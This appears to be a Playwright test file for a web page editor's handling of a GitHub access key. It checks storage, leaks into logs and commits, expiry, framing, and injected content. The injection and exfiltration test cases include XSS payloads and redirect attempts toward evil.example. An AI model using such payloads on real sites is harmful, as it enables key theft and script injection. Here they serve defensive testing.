import type {Page} from 'playwright/test'
import type {FakeGitHub} from '../edit/host/fakeGitHub.ts'
import {findViolations} from '../findViolations.ts'
import {api} from '../previewSite.ts'
import {branchOf, editorOn, open, retype, signIn, test} from './previewEditor.ts'
import {expect} from './site.ts'

// S14.63
test('the key is kept only in the tab, or in this browser where the person says so, and is sent to the host alone', async ({
  page,
  host,
}) => {
  const elsewhere: string[] = []
  page.on('request', (request) => {
    const sent = JSON.stringify([request.url(), request.headers(), request.postData()])
    if (!request.url().startsWith(api) && sent.includes(host.key)) elsewhere.push(request.url())
  })
  const stored = () =>
    page.evaluate(() => JSON.stringify([{...localStorage}, {...sessionStorage}, document.cookie]))
  await open(page, '/about', host)
  expect(await stored()).not.toContain(host.key)
  await page.reload()
  await signIn(page, host.key, true)
  await editorOn(page).bar.waitFor()
  await page.reload()
  await editorOn(page).bar.waitFor()
  await page.getByRole('button', {name: 'Sign out'}).click()
  await page.getByLabel('Your key').waitFor()
  expect(await stored()).not.toContain(host.key)
  expect(elsewhere).toEqual([])
  const blocked = page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        addEventListener('securitypolicyviolation', ({blockedURI}) => resolve(blockedURI))
        fetch('https://example.org/').catch(() => {})
      }),
  )
  expect(await blocked).toContain('https://example.org')
})

// S14.63
test('a key that can’t be used says why, and the form stays', async ({page, host}) => {
  await page.goto('/edit/about')
  const status = page.locator('#siteSignIn').getByRole('status')
  await signIn(page, 'github_pat_none')
  await expect(status).toContainText('Your key has run out, was withdrawn, or was not copied whole.')
  host.state.canPush = false
  await signIn(page, host.key)
  await expect(status).toContainText('Your key does not allow this.')
  host.state.canPush = true
  expect(await findViolations(page)).toEqual([])
  await signIn(page, host.key)
  await editorOn(page).bar.waitFor()
})

/** Types another title of the page with a key that may not write any more. Returns the field. */
async function changeTitleWithoutRights(page: Page, host: FakeGitHub) {
  const {bar, panel} = editorOn(page)
  await page.keyboard.press('Escape')
  await bar.getByRole('button', {name: 'Title and description'}).click()
  const title = panel('Title and description').getByLabel('Title', {exact: true})
  host.state.canPush = false
  await title.fill('Money, in time')
  await title.press('Enter')
  await expect(page.getByRole('form', {name: 'Sign in again'}).getByRole('status')).toContainText(
    'Your key does not allow this.',
  )
  return title
}

// S14.63
test('when the key runs out or loses its rights, a new one is asked for beside the words, which are then saved', async ({
  page,
  host,
}) => {
  const {main, status, textEditor} = editorOn(page)
  await open(page, '/about', host)
  const heading = main.getByRole('heading', {level: 1})
  await heading.click()
  await expect(textEditor).toBeFocused()
  host.renewKey()
  await retype(page, 'Money without a key')
  const form = page.getByRole('form', {name: 'Sign in again'})
  await expect(form.getByRole('status')).toContainText('Your key has run out')
  await expect(textEditor).toHaveText('Money without a key')
  expect(await findViolations(page)).toEqual([])
  await textEditor.click()
  await page.keyboard.press('ControlOrMeta+a')
  await page.keyboard.type('Money with a new key')
  host.failNext('unavailable', /user/)
  await signIn(page, host.key)
  await expect(form.getByRole('status')).toContainText('has a problem of its own')
  await signIn(page, host.key)
  await expect(form).toBeHidden()
  await expect(status).toHaveText('Saved.')
  expect(host.git('show', `${branchOf(host)}:pages/about.mdx`)).toContain('# Money with a new key')

  await changeTitleWithoutRights(page, host)
  host.state.canPush = true
  await signIn(page, host.key)
  await expect(status).toHaveText('Saved.')
  expect(host.git('show', `${branchOf(host)}:pages/about.mdx`)).toContain('title: Money, in time')
})

// S14.63
test('words typed on while a new key is asked for stay in the text, and the focus returns there', async ({
  page,
  host,
}) => {
  const {main, status, textEditor} = editorOn(page)
  await open(page, '/about', host)
  await main.getByRole('heading', {level: 1}).click()
  await expect(textEditor).toBeFocused()
  host.renewKey()
  await retype(page, 'Money without a key')
  const form = page.getByRole('form', {name: 'Sign in again'})
  await expect(form.getByRole('status')).toContainText('Your key has run out')
  await page.keyboard.type(', typed on')
  await expect(textEditor).toHaveText('Money without a key, typed on')
  await signIn(page, host.key)
  await expect(form).toBeHidden()
  await expect(textEditor).toBeFocused()
  await expect(status).toHaveText('Saved.')
  const title = await changeTitleWithoutRights(page, host)
  await page.keyboard.type('!')
  await expect(title).toHaveValue('Money, in time!')
  host.state.canPush = true
  await signIn(page, host.key)
  await expect(status).toHaveText('Saved.')
  await expect(title).toBeFocused()
})

// S14.63
test('the key is in no log, address, commit or message, whatever fails', async ({page, host}) => {
  const logged: string[] = []
  page.on('console', (message) => logged.push(message.text()))
  page.on('pageerror', ({message, stack}) => logged.push(`${message} ${stack}`))
  page.on('framenavigated', (frame) => logged.push(frame.url()))
  const {main, status, textEditor} = editorOn(page)
  await open(page, '/about', host)
  const heading = main.getByRole('heading', {level: 1})
  await heading.click()
  await expect(textEditor).toBeFocused()
  const faults = [
    ['notJson', 'gave an unexpected answer'],
    ['broken', 'has a problem of its own'],
    ['rateLimit', 'too much in a short time'],
  ] as const
  for (const [fault, words] of faults) {
    host.failNext(fault, /matching-refs/)
    await retype(page, `Money despite ${fault}`)
    await expect(status).toContainText(words)
    logged.push(await page.locator('body').innerText(), await status.innerText())
  }
  await page.keyboard.press('ControlOrMeta+s')
  await expect(status).toHaveText('Saved.')
  const stored = await page.evaluate(() => JSON.stringify([{...localStorage}, {...sessionStorage}]))
  const commits = host.git('log', '--all', '--patch', '--format=fuller')
  expect([...logged, stored, commits, page.url()].filter((text) => text.includes(host.key))).toEqual([])
})

// S14.63
test('neither an address nor a message of another page changes where the key is sent', async ({
  page,
  host,
}) => {
  const asked: string[] = []
  page.on('request', (request) => asked.push(new URL(request.url()).origin))
  const evil = 'https://evil.example'
  await page.goto(`/edit/about?key=x&api=${evil}&repository=evil/site&workerFile=${evil}/w.js#api=${evil}`)
  await page.evaluate((address) => {
    const access = {repository: 'evil/site', key: 'x', api: address, branch: ''}
    for (const data of [{open: access, siteFile: `${address}/site.json`}, {signedOut: 'Sign in.'}])
      postMessage(data, '*')
  }, evil)
  await signIn(page, host.key)
  await editorOn(page).bar.waitFor()
  await page.goto('/edit//evil.example/about')
  expect(asked.filter((origin) => origin.endsWith('evil.example'))).toEqual([])
})

// S14.63
test('what a colleague’s branch has in its words runs nothing and leads nowhere', async ({page, host}) => {
  const source = host.git('show', 'main:pages/about.mdx')
  const attacks = [
    '<meta httpEquiv="refresh" content="0;url=https://evil.example/" />',
    '<script async src="/attack.js">{`window.attacked = true`}</script>',
    '<img src="/none.png" alt="A picture" onError="window.attacked = true" />',
    '<iframe srcDoc="&lt;script&gt;top.attacked = true&lt;/script&gt;" />',
    '<html data-api="https://evil.example" data-repository="evil/site" />',
    '<form id="siteSignIn" action="https://evil.example/"><input name="key" /></form>',
    '[Click me first](javascript:window.attacked=true)',
    '## Heading with {window.attacked = true} <b onClick="window.attacked = true">in it</b>',
  ]
  const blob = host.gitWithInput(
    `${source}\n\n${attacks.join('\n\n')}\n\nAfter all of these.\n`,
    'hash-object',
    '-w',
    '--stdin',
  )
  host.git('read-tree', 'main')
  host.git('update-index', '--cacheinfo', `100644,${blob},pages/about.mdx`)
  const tree = host.git('write-tree')
  host.git('update-ref', 'refs/heads/main', host.git('commit-tree', tree, '-p', 'main', '-m', 'Attack'))
  const {main} = editorOn(page)
  await page.route('**/attack.js', (route) =>
    route.fulfill({contentType: 'text/javascript', body: 'window.attacked = true'}),
  )
  await open(page, '/about', host)
  await expect(main.getByText('After all of these.')).toBeVisible()
  await main.getByText('Click me first').click({modifiers: ['ControlOrMeta']})
  await page.waitForLoadState('networkidle')
  expect(await page.evaluate(() => ('attacked' in window ? 'attacked' : 'safe'))).toBe('safe')
  await expect(page).toHaveURL(/\/edit\/about$/)
  await expect(page.locator('main :is(script, iframe, form[action], meta)')).toHaveCount(0)
  await expect(page.locator('html')).toHaveAttribute('data-api', api)
})

// S14.63
test('inside a page of another site the editor does not start, also where the host sends no header', async ({
  page,
  host,
  address,
}) => {
  await page.goto('/edit/about')
  await signIn(page, host.key, true)
  await editorOn(page).bar.waitFor()
  await page.route('**/edit/about', async (route) => {
    const response = await route.fetch()
    const headers = Object.fromEntries(
      Object.entries(response.headers()).filter(([name]) => !/^(x-frame|content-security)/.test(name)),
    )
    await route.fulfill({response, headers})
  })
  // A page of this site is as good: it has the key in its storage.
  await page.route('**/framing', (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: `<iframe src="${address}/edit/about" width="900" height="600"></iframe>`,
    }),
  )
  const before = host.requests.length
  await page.goto('/framing')
  const frame = page.frameLocator('iframe')
  await expect(frame.getByText('The editor does not start inside another page.')).toBeVisible()
  await expect(frame.getByLabel('Your key')).toHaveCount(0)
  expect(host.requests.length).toBe(before)
})
